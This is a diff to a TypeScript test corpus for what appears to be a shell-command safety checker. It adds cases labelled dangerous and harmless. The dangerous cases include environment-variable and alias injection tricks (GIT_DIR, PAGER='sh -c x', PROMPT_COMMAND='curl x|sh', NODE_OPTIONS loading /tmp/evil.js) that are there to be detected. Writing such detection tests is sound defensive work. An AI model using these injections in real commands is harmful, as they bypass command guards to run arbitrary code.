@@ -245,6 +245,9 @@ export const DANGEROUS: CorpusCase[] = [
   d('PATH prefix', 'PATH=. ls'),
   d('GIT_SSH_COMMAND', "GIT_SSH_COMMAND='touch /tmp/pwn' git fetch"),
   d('GIT_DIR', 'export GIT_DIR=/tmp/other'),
+  d('GIT_DIR on a program', 'GIT_DIR=/tmp/other git status'),
+  d('GIT_DIR on echo redefined as a function', 'echo() { git "$@"; }; GIT_DIR=/tmp/other echo status'),
+  d('PAGER on echo after an alias', "alias echo=git\nPAGER='sh -c x' echo log"),
   d('PROMPT_COMMAND', "export PROMPT_COMMAND='curl x|sh'"),
   d('NODE_OPTIONS --require', "NODE_OPTIONS='--require /tmp/evil.js' node app.js"),
   d('EDITOR', "export EDITOR='sh -c evil'"),
@@ -529,6 +532,8 @@ export const DANGEROUS: CorpusCase[] = [
 ];
 
 export const HARMLESS: CorpusCase[] = [
+  a('GIT_DIR on echo, which runs no program', 'GIT_DIR=/home/user echo $GIT_DIR'),
+  a('PAGER on printf', "PAGER='sh -c x' printf '%s\\n' ok"),
   a('rm inside', 'rm -rf ./build'),
   a('rm several inside', 'rm -rf build dist'),
   a('rm glob inside', 'rm -rf ./build/*'),
